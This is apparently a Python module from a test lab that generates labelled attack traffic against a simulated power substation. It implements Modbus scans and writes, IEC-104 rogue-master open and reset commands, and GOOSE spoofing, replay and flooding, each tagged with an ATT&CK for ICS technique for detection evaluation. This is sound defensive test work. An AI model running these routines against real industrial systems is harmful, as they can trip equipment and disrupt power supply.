"""The attacks of the bad day. They run inside the lab's namespaces only, against its own stacks.

Each attack is a function of :class:`Intruder`; the intruder stamps its begin and end and
prints a label, so labels are what was done and not what was planned.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable

from tests.lab import frames as f
from tests.lab.goose import listening_socket, raw_socket
from tests.lab.scenario import Scenario
from tests.lab.station import FACTOR, GOOSE_VLAN, MACS, NODES, PUBLISHERS, UNITS, Clock

Told = tuple[str, str, str, str]
"""(technique, source, destination, note) of an attack that was carried out."""


def exchange(link: socket.socket, data: bytes, wait: float = 0.3) -> bytes:
    """Send and read one answer; nothing when none comes in time."""
    link.sendall(data)
    link.settimeout(wait)
    try:
        return link.recv(2048)
    except TimeoutError:
        return b""


def read_elements(data: bytes) -> list[tuple[int, bytes]]:
    """BER elements of one level (definite lengths)."""
    out, at = [], 0
    while at + 2 <= len(data):
        tag, size, at = data[at], data[at + 1], at + 2
        if size & 0x80:
            octets = size & 0x7F
            size, at = int.from_bytes(data[at : at + octets], "big"), at + octets
        out.append((tag, data[at : at + size]))
        at += size
    return out


class Link104:
    """Bare IEC-104 controlling station: what an attack tool brings along."""

    def __init__(self, host: str) -> None:
        self.socket = socket.create_connection((host, 2404), timeout=1.0)
        self.sent, self.received = 0, 0
        exchange(self.socket, f.apci_u(f.STARTDT_ACT))

    def _count(self, data: bytes) -> None:
        at = 0
        while at + 6 <= len(data) and data[at] == 0x68:
            if not data[at + 2] & 1:
                self.received = ((data[at + 2] | data[at + 3] << 8) >> 1) + 1
            at += 2 + data[at + 1]

    def ask(self, asdu: bytes, wait: float = 0.08) -> None:
        """Send one I-frame, then take in what comes for a while and acknowledge it."""
        before = self.received
        self.socket.sendall(f.apci_i(self.sent, self.received, asdu))
        self.sent += 1
        until = time.monotonic() + wait
        while (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(4096)
            except TimeoutError:
                break
            if not data:
                break
            self._count(data)
        if self.received != before:
            self.socket.sendall(f.apci_s(self.received))

    def close(self) -> None:
        """End the connection."""
        self.socket.close()


class Intruder:
    """Attacks from one foothold (a new host, or a compromised one)."""

    def __init__(self, foothold: str, clock: Clock) -> None:
        self.host = {"intruder": "intruder", "cc_intruder": "cc", "scada_intruder": "scada"}[foothold]
        self.clock = clock
        self.heard: dict[int, list[bytes]] = {}
        self.lock = threading.Lock()

    @property
    def address(self) -> str:
        """IP address of the foothold."""
        return NODES[self.host]

    def pause(self, seconds: float) -> None:
        """Wait, in station seconds."""
        time.sleep(seconds / FACTOR)

    # --- Modbus ---------------------------------------------------------------------------

    def modbus_scan(self) -> Told:
        """New host asks every unit, function and identity."""
        tid = 0
        for name in UNITS:
            with socket.create_connection((NODES[name], 502), timeout=1.0) as link:
                for unit in range(5):
                    tid += 1
                    exchange(link, f.modbus_adu(tid, unit, f.mb_read(3, 0, 1)), 0.02)
                for function in (1, 2, 3, 4, 7, 8, 11, 17, 20, 24, 43, 65, 90, 100):
                    tid += 1
                    pdu = f.mb_device_id() if function == 43 else bytes([function, 0, 0, 0, 1])
                    exchange(link, f.modbus_adu(tid, UNITS[name], pdu), 0.03)
                    self.pause(0.3)
        return (
            "T0846",
            self.address,
            ";".join(NODES[name] for name in UNITS),
            "new host scans units, function codes and FC 43 identity on all three devices",
        )

    def modbus_write(self) -> Told:
        """New host reads, then throttles the inverter (as FrostyGoop did with controllers)."""
        with socket.create_connection((NODES["inverter"], 502), timeout=1.0) as link:
            exchange(link, f.modbus_adu(1, 1, f.mb_read(3, 100, 4)))
            self.pause(1.5)
            for tid, limit in enumerate((20, 0, 0), start=2):
                exchange(link, f.modbus_adu(tid, 1, f.mb_write_registers(100, [limit, 950])))
                self.pause(2)
        return (
            "T0836",
            self.address,
            NODES["inverter"],
            "new host reads, then writes the power limit to 0 with FC 16",
        )

    def modbus_ratio(self) -> Told:
        """Compromised SCADA host changes the meter's transformer ratio."""
        with socket.create_connection((NODES["meter"], 502), timeout=1.0) as link:
            for tid, (register, value) in enumerate(((200, 40), (201, 1)), start=1):
                exchange(link, f.modbus_adu(tid, 3, f.mb_write_register(register, value)))
                self.pause(2)
        return (
            "T0836",
            self.address,
            NODES["meter"],
            "known SCADA host writes CT ratio registers with FC 6, never written before",
        )

    def stealth_read(self) -> Told:
        """Compromised SCADA host reads, slowly, what nobody reads."""
        with socket.create_connection((NODES["meter"], 502), timeout=1.0) as link:
            for tid in range(1, 10):
                exchange(link, f.modbus_adu(tid, 3, f.mb_read(3, 180 + 8 * tid, 8)))
                self.pause(40)
        return (
            "T0861",
            self.address,
            NODES["meter"],
            "known SCADA host reads new register blocks, one every 40 s",
        )

    # --- IEC 60870-5-104 ------------------------------------------------------------------

    def rogue_master(self) -> Told:
        """New host takes the controlling role and opens whatever answers (as Industroyer2)."""
        link = Link104(NODES["rtu2"])
        link.ask(f.asdu(100, 6, 2, [(0, f.e_interrogation())]), 0.4)
        self.pause(8)
        for ioa in range(4001, 4013):
            for select in (True, False):
                link.ask(f.asdu(46, 6, 2, [(ioa, f.e_double_command(1, select))]))
        for ioa in range(4001, 4005):
            link.ask(f.asdu(45, 6, 2, [(ioa, f.e_single_command(False))]))
        link.close()
        return (
            "T0855",
            self.address,
            NODES["rtu2"],
            "rogue master: STARTDT, general interrogation, open commands over IOA 4001-4012",
        )

    def reset_process(self) -> Told:
        """Known control centre resets an RTU."""
        link = Link104(NODES["rtu1"])
        link.ask(f.asdu(105, 6, 1, [(0, b"\x01")], oa=1))
        self.pause(3)
        link.close()
        return (
            "T0816",
            self.address,
            NODES["rtu1"],
            "known master sends reset process (C_RP_NA_1), never used before",
        )

    def new_point(self) -> Told:
        """Known control centre closes an earthing switch that it never commands."""
        link = Link104(NODES["rtu2"])
        for select in (True, False):
            link.ask(f.asdu(46, 6, 2, [(4009, f.e_double_command(2, select))], oa=1))
        self.pause(3)
        link.close()
        return (
            "T0855",
            self.address,
            NODES["rtu2"],
            "known master closes earthing switch IOA 4009, never commanded before",
        )

    def wrong_clock(self) -> Told:
        """Known control centre sets an RTU's clock back by a day."""
        link = Link104(NODES["rtu2"])
        wrong = f.cp56(self.clock.ns() - 86_400 * 1_000_000_000)
        link.ask(f.asdu(103, 6, 2, [(0, wrong)], oa=1))
        self.pause(3)
        link.close()
        return (
            "T0855",
            self.address,
            NODES["rtu2"],
            "known master sets the RTU's clock back by one day (C_CS_NA_1)",
        )

    # --- GOOSE ----------------------------------------------------------------------------

    def listen(self) -> None:
        """Keep the GOOSE bodies on the wire, by APPID, first and latest ones."""
        raw = listening_socket()
        while True:
            frame = raw.recv(2048)
            if frame[6:12] == f.mac(MACS["intruder"]) or frame[12:14] != b"\x88\xb8":
                continue
            with self.lock:
                kept = self.heard.setdefault(int.from_bytes(frame[14:16], "big"), [])
                kept.append(frame[22 : 14 + int.from_bytes(frame[16:18], "big")])
                if len(kept) > 200:
                    del kept[100]

    def _latest(self, ied: str) -> list[tuple[int, bytes]]:
        with self.lock:
            body = self.heard[PUBLISHERS[ied].appid][-1]
        return read_elements(read_elements(body)[0][1])

    def _forge(
        self,
        ied: str,
        source: str,
        elements: list[tuple[int, bytes]],
        st: int,
        sq: int,
        sim: bool,
        stamp: int,
    ) -> bytes:
        """The heard PDU with its first entry (trip) true and other counters."""
        entries = read_elements(elements[-1][1])
        entries[0] = (0x83, b"\x01")
        data = b"".join(f.ber(tag, body) for tag, body in entries)
        changed = {0x84: f.utc_time(stamp), 0x87: bytes([sim]), 0xAB: data}
        counters = {0x85: f.g_uint(st)[2:], 0x86: f.g_uint(sq)[2:]}
        pdu = f.ber(0x61, b"".join(f.ber(t, {**changed, **counters}.get(t, body)) for t, body in elements))
        block = PUBLISHERS[ied]
        return f.goose_frame(block.group, source, block.appid, pdu, vlan=GOOSE_VLAN, pcp=4, simulation=sim)

    def _publish(self, ied: str, source: str, st_ahead: int, sim: bool, seconds: float) -> None:
        elements, stamp, raw = self._latest(ied), self.clock.ns(), raw_socket()
        st = int.from_bytes(dict(elements)[0x85], "big") + st_ahead
        until, interval, sq = self.clock.now() + seconds, 0.004, 0
        while self.clock.now() < until:
            raw.send(self._forge(ied, source, elements, st, sq, sim, stamp))
            sq += 1
            self.pause(interval)
            interval = min(2 * interval, PUBLISHERS[ied].heartbeat_s)
        raw.close()

    def goose_spoof(self) -> Told:
        """Forged trip with a higher stNum from a foreign MAC address."""
        self._publish("ied1", MACS["intruder"], 5, False, 20)
        return (
            "T0855",
            MACS["intruder"],
            PUBLISHERS["ied1"].group,
            "GOOSE spoof: trip of TR1 with stNum ahead, from another MAC",
        )

    def goose_simulation(self) -> Told:
        """Simulated trip under the publisher's own MAC address."""
        self._publish("ied1", MACS["ied1"], 1, True, 30)
        return (
            "T0856",
            MACS["ied1"],
            PUBLISHERS["ied1"].group,
            "GOOSE with the simulation bit under IED 1's MAC: receivers in test ignore the real one",
        )

    def goose_replay(self) -> Told:
        """Frames of an old state, sent again under the publisher's MAC address."""
        block, raw = PUBLISHERS["ied2"], raw_socket()
        with self.lock:
            old = self.heard[block.appid][2:17]
        for body in old:
            raw.send(f.goose_frame(block.group, MACS["ied2"], block.appid, body, vlan=GOOSE_VLAN, pcp=4))
            self.pause(1.2)
        raw.close()
        return (
            "T0856",
            MACS["ied2"],
            block.group,
            "GOOSE replay: old frames of IED 2 (lower stNum, old t) under its MAC",
        )

    def goose_flood(self) -> Told:
        """Flood of frames for one control block; its publisher starves meanwhile."""
        elements, raw = self._latest("ied3"), raw_socket()
        st = int.from_bytes(dict(elements)[0x85], "big")
        block, until, sq = PUBLISHERS["ied3"], self.clock.now() + 36, 0
        while self.clock.now() < until:
            pdu = f.ber(0x61, b"".join(f.ber(t, f.g_uint(sq)[2:] if t == 0x86 else b) for t, b in elements))
            raw.send(f.goose_frame(block.group, MACS["intruder"], block.appid, pdu, vlan=GOOSE_VLAN, pcp=4))
            st, sq = st + 1, sq + 1
            self.pause(0.02)
        raw.close()
        return (
            "T0814",
            MACS["intruder"],
            f"{block.group};{MACS['ied3']}",
            "GOOSE flood from another MAC; the true publisher of the block falls silent",
        )


def run(foothold: str, scenario: Scenario, clock: Clock) -> None:
    """Carry out the scenario's attacks of one foothold and print their labels."""
    actions = scenario.mine(foothold)
    if not actions:
        return
    intruder = Intruder(foothold, clock)
    if foothold == "intruder":
        threading.Thread(target=intruder.listen, daemon=True).start()
    for action in actions:
        attack: Callable[[], Told] = getattr(intruder, action.name)
        clock.sleep_until(action.at)
        start = time.time_ns()
        technique, source, target, note = attack()
        label = {"start": start, "end": time.time_ns(), "technique": technique, "src": source, "dst": target}
        print(json.dumps({**label, "note": note}), flush=True)
